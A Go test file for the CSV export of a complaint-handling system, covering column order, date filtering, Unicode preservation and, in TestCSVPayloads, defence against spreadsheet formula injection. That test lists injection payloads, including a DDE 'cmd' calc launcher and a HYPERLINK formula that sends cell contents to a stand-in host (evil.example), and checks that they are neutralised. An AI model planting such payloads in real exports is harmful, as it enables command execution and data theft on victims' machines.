package export

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"aduan/flows"
	"aduan/flows/read"
	"aduan/store"
)

// csv returns what CSV writes, and checks that its reader gets it all.
func (d *desk) csv(t testing.TB, f store.Filter, o Options) (text string, rows [][]string) {
	t.Helper()
	if o.Zone == nil {
		o.Zone = wib
	}
	var b bytes.Buffer
	d.view(t, func(tx *store.Tx) error { return CSV(&b, tx, f, o) })
	text, ok := strings.CutPrefix(b.String(), "\xEF\xBB\xBF")
	if !ok {
		t.Fatal("no byte order mark")
	}
	r := csv.NewReader(strings.NewReader(text))
	if r.Comma = o.Separator; r.Comma == 0 {
		r.Comma = ';'
	}
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return text, rows
}

func TestCSV(t *testing.T) {
	t.Parallel()
	d := setup(t)
	one, shaOne := d.send(t, "+6281111111111", "proof", "image/jpeg", []byte("one"))
	two, shaTwo := d.send(t, "+6281111111111", "proof", "application/pdf", []byte("two"))
	d.update(t, func(tx *store.Tx) error {
		_, err := d.file(tx, "+6281111111111", flows.Filing{Lang: "id", Answers: []flows.Filed{
			filed("kind", flows.Answer{Said: "1", Read: "quota"}),
			filed("whatsapp", flows.Answer{Said: "0812 3456 7890", Read: "+6281234567890"}),
			filed("date", flows.Answer{Open: true}),
			filed("proof", flows.Answer{Read: "2"}),
			filed("invoice", flows.Answer{Skipped: true}),
		}, Files: []flows.File{one, two}})
		return err
	})
	d.now = d.now.Add(time.Minute)
	d.make(t, "lid:123", "kind", "stamping", "date", "2024-09-03", "history", "none")

	text, _ := d.csv(t, store.Filter{}, Options{})
	numbers := d.numbers(t, store.Filter{})
	want := "number;filed_at;status;contact;kind;date;whatsapp;history;proof;invoice\n" +
		numbers[0] + ";2024-09-06T10:00:00+07:00;new;6281111111111;quota;;6281234567890;;" + shaOne + " " + shaTwo + ";\n" +
		numbers[1] + ";2024-09-06T10:01:00+07:00;new;lid:123;stamping;2024-09-03;;none;;\n"
	if diff := cmp.Diff(want, text); diff != "" {
		t.Error(diff)
	}
}

// The columns are those of the form, in its order, whatever was asked of whom;
// what another form has asked stands behind them.
func TestCSVColumnsAreThoseOfTheForm(t *testing.T) {
	t.Parallel()
	d := setup(t)
	d.make(t, "+6281111111111", "kind", "quota", "date", "2024-09-03", "invoice", "INV-1")
	d.make(t, "+6281111111111", "kind", "stamping", "date", "2024-09-03", "history_screenshot", "1")
	d.make(t, "+6281111111111", "kind", "stamping", "colour", "blue", "history_screenshot", "1")
	form, err := flows.Embedded("emeterai")
	if err != nil {
		t.Fatal(err)
	}
	_, rows := d.csv(t, store.Filter{}, Options{Form: form})
	if diff := cmp.Diff([]string{"kind", "whatsapp", "pieces", "date", "proof", "invoice", "history_screenshot", "colour"}, rows[0][4:]); diff != "" {
		t.Error(diff)
	}
}

func TestCSVOfNothingIsItsHeader(t *testing.T) {
	t.Parallel()
	text, _ := setup(t).csv(t, store.Filter{}, Options{})
	if text != "number;filed_at;status;contact\n" {
		t.Errorf("got %q", text)
	}
}

// T39: nothing that a person can write begins a formula, breaks out of its
// cell, or is lost.
func TestCSVPayloads(t *testing.T) {
	t.Parallel()
	payloads := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM",
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example?x="&A1,"click")`, "+62 812 3456",
		"semi;colon", "com,ma", "pi|pe", `say "hi"`, `"`, "two\nlines", "trailing\n", `";=1+1;"`, "\n=1+1", `\.`, " =1+1",
	}
	for _, separator := range ";,|\t" {
		d := setup(t)
		for i, p := range payloads {
			d.now = d.now.Add(time.Second)
			d.make(t, "+6281111111111", "story", p, "pieces", string(rune('a'+i)))
		}
		_, rows := d.csv(t, store.Filter{}, Options{Separator: separator})
		if len(rows) != len(payloads)+1 {
			t.Fatalf("%d rows, want %d", len(rows), len(payloads)+1)
		}
		for i, p := range payloads {
			row := rows[i+1]
			want := p
			if startsFormula(p) {
				want = "'" + p
			}
			if row[4] != want || row[5] != string(rune('a'+i)) {
				t.Errorf("%q separated by %q is read as %q", p, separator, row[4:])
			}
			if slices.ContainsFunc(row, startsFormula) {
				t.Errorf("a formula in %q", row)
			}
		}
	}
}

// strange are texts as they are after cleaning at the door.
func strange() []string {
	out := []string{
		"ＫＵＯＴＡ １２", "👩‍👩‍👧‍👦 keluarga 🇮🇩", "می\u200cخواهم", "עברית ועוד", "العربية", "e\u0301\u0302\u0303", "<script>&amp;</script>", "a\u2028b", "𝒳𠜎",
		strings.Repeat("ü😀", 2000),
	}
	for _, s := range []string{"a\x00b", "\u202Eabc\u202C", "\u200Bx\uFEFF", "bad \xff\xfe bytes", "a\r\nb\tc"} {
		out = append(out, read.Clean(s))
	}
	return out
}

// T40: what was kept is written whole.
func TestCSVKeepsStrangeTexts(t *testing.T) {
	t.Parallel()
	d := setup(t)
	for _, s := range strange() {
		d.now = d.now.Add(time.Second)
		d.make(t, "+6281111111111", "story", s)
	}
	_, rows := d.csv(t, store.Filter{}, Options{})
	for i, s := range strange() {
		if got := rows[i+1][4]; got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
}

func TestFilterChoosesRowsAndColumns(t *testing.T) {
	t.Parallel()
	d := setup(t)
	d.make(t, "+6281111111111", "early", "x")
	d.now = d.now.AddDate(0, 0, 1)
	number := d.make(t, "+6281111111111", "late", "y")
	_, rows := d.csv(t, store.Filter{Since: d.now, Until: d.now.Add(time.Millisecond), Status: store.StatusNew}, Options{})
	if len(rows) != 2 || rows[1][0] != number || rows[0][4] != "late" {
		t.Errorf("got %q", rows)
	}
	for _, f := range []store.Filter{{Since: d.now.Add(1 * time.Millisecond)}, {Until: d.now.AddDate(0, 0, -1)}, {Status: store.StatusTaken}} {
		if _, rows := d.csv(t, f, Options{}); len(rows) != 1 {
			t.Errorf("%+v: got %q", f, rows)
		}
	}
}

// A number that somebody else has now is no way to reach the person.
func TestNumberThatWasLost(t *testing.T) {
	t.Parallel()
	d := setup(t)
	d.update(t, func(tx *store.Tx) error {
		_, err := tx.Contact("lid:1", "+6281111111111", "Old")
		return err
	})
	d.make(t, "lid:1", "kind", "quota")
	d.update(t, func(tx *store.Tx) error {
		_, err := tx.Contact("lid:2", "+6281111111111", "New")
		return err
	})
	_, rows := d.csv(t, store.Filter{}, Options{})
	if rows[1][3] != "lid:1" {
		t.Errorf("contact is %q", rows[1][3])
	}
}

func (d *desk) numbers(t testing.TB, f store.Filter) (out []string) {
	t.Helper()
	d.view(t, func(tx *store.Tx) error {
		return tx.Reports(f, func(r store.Report) error { out = append(out, r.Number); return nil })
	})
	return out
}
